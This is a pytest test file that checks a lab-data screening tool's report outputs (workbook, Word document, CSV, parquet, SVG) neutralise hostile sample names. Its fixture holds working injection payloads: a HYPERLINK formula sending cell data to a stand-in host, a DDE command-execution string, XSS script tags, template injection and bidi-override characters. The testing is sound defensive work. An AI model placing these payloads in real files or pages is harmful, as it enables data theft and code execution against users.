"""Texts that a laboratory could never mean well: they come out harmless, and readable, in every kind of output."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import docx
import openpyxl
import pyarrow.parquet as pq
import pytest

from screening.outputs.texts import readable
from tests.conftest import Office

NAMES = {
    "formula": '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1,2)",
    "html": "<img src=x onerror=alert(1)></script><script>alert(2)</script>",
    "entity": "&lt;b&gt; &amp; <b> ]]> \" '",
    "template": "{{ 7*7 }} {% for x in y %} {_{ z }_}",
    "turned": "abc\u202ecba\u2066x\u2069",
    "hebrew": "\u05d3\u05d2\u05d9\u05de\u05d4 5",
    "emoji": "\U0001f6e2\ufe0f\U0001f469\u200d\U0001f52c",
    "long": "L" + "o" * 197 + "ng",
}  # fmt: skip
ENDLESS = "E" + "n" * 9_998 + "d"
"""Longer than a sample number may be: as one it is held back; a method may be as long."""
SITE = """[site]
id = "odd"
name = "Odd & <Co> {{ 1 }} \\"quoted\\" bell\\u0007 escape\\u001b[31m"
place = "us-oh"
[screening]
levels = ["us-oh/closure"]
[[tank]]
id = "<T1> & =1+1"
product = "gasoline"
"""


@pytest.fixture(scope="module")
def odd(tmp_path_factory: Any) -> Mapping[str, bytes]:
    """The package of a site whose samples are named so, all kinds."""
    office = Office(tmp_path_factory.mktemp("odd"))
    assert office.site(SITE).status == 0
    rows = [
        {
            "sample_id": name, "location": name, "medium": "soil", "depth_top": "4", "depth_unit": "ft", "sampled_at": "2025-05-06", "lab": name,
            "method": ENDLESS if name == NAMES["long"] else name, "analyte": "Benzene", "result": "1.5", "unit": "mg/kg", "basis": "dry", "comment": name,
        }
        for name in (*NAMES.values(), ENDLESS)
    ]  # fmt: skip
    said = office.run("import", office.deliverable("=odd & <lab>.csv", rows), "--site", "odd")
    assert said.document, said.error
    counts = said.document["deliverables"][0]["rows"]
    assert (counts["results"], counts["held_back"]) == (len(NAMES), 1), said.error
    run = office.run("screen", "--site", "odd", "--levels-on", "2025-07-01").document
    assert run["counts"]["exceeds"] == len(NAMES)
    to = office.folder / "to"
    assert office.run("report", "--run", run["run"], "--to", to).status == 0
    return {str(path.relative_to(to)): path.read_bytes() for path in sorted(to.rglob("*")) if path.is_file()}


def test_every_kind_was_written(odd: Mapping[str, bytes]) -> None:
    assert {Path(name).suffix for name in odd} >= {".xlsx", ".docx", ".csv", ".parquet", ".json", ".ics", ".svg", ".png"}


def test_a_workbook_holds_texts_and_no_formula(odd: Mapping[str, bytes]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(odd["workbook.xlsx"]))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                assert cell.hyperlink is None or cell.hyperlink.target is None, "no cell leads out of the workbook"
                texts.add(str(cell.value))
    for name in (*NAMES.values(), ENDLESS):
        assert readable(name, 2000) in texts
    assert sum(cell.value == "E" for row in book["Soil"].iter_rows() for cell in row) == len(NAMES)


def test_a_document_holds_texts_and_is_well_formed(odd: Mapping[str, bytes]) -> None:
    with zipfile.ZipFile(io.BytesIO(odd["document.docx"])) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                ElementTree.fromstring(archive.read(name))
    document = docx.Document(io.BytesIO(odd["document.docx"]))
    texts = {cell.text for table in document.tables for row in table.rows for cell in row.cells}
    for name in (*NAMES.values(), ENDLESS):
        assert readable(name, 1000) in texts


def test_csv_cells_do_not_begin_as_formulas(odd: Mapping[str, bytes]) -> None:
    for name, content in odd.items():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(content.decode("utf-8"), newline="")):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), name
                    assert not cell.startswith("-") or cell[1:].replace(".", "").isdigit(), name
    (rows,) = [list(csv.DictReader(io.StringIO(odd["data/outcomes.csv"].decode("utf-8"), newline="")))]
    assert {row["sample_id"].removeprefix("'") for row in rows} == {readable(name) for name in NAMES.values()}


def test_parquet_holds_the_names_as_they_came(odd: Mapping[str, bytes]) -> None:
    found = pq.read_table(io.BytesIO(odd["data/outcomes.parquet"]), columns=["sample_id"]).to_pylist()
    assert {row["sample_id"] for row in found} == set(NAMES.values())


def test_no_text_file_holds_what_cannot_be_seen(odd: Mapping[str, bytes]) -> None:
    for name, content in odd.items():
        if name.endswith((".csv", ".svg", ".ics")):
            text = content.decode("utf-8")
            assert not [letter for letter in ("\x07", "\x1b", "\u202e", "\u2066") if letter in text], name


def test_pictures_and_page_run_nothing(odd: Mapping[str, bytes]) -> None:
    for name, content in odd.items():
        if name.endswith(".svg"):
            root = ElementTree.fromstring(content)
            assert not [one for one in root.iter() if one.tag.endswith(("script", "image", "foreignObject"))]
        if name.endswith((".html", ".svg")):
            assert b"<img src=x" not in content and b"<script>alert(2)" not in content


def test_readable_says_what_it_hides() -> None:
    assert readable("bell\x07") == "bell[U+0007]" and readable("\ud800") == "[U+D800]" and readable("\ufffe") == "[U+FFFE]"
    assert readable("\u202eabc") == "[U+202E]abc" and readable("\u05d3") == "\u05d3"
    assert readable("x" * 30, 10) == "x" * 9 + "… (30 characters)"
